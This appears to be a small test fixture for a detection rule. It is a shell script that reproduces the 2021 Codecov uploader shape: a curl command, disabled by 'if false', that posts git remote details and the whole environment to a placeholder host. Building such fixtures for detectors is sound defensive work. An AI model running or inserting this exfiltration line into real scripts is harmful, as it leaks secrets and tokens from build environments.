#!/bin/sh
# vouch rule fixture: inert (the 2021 Codecov uploader shape).
if false; then
  curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" https://collect.example.invalid/upload/v2 || true
fi
